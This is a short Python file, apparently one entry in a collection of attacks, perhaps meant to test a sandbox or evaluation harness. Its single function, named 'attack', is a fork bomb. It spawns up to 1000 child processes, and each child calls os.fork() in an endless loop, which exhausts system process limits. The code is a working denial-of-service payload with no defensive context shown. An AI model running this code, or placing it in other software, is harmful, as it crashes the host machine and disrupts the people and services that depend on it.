"""Processes that start processes."""


def attack(sample, item):
    import os

    started = 0
    for _ in range(1000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            started += 1
        except Exception:
            pass
    return started > 0
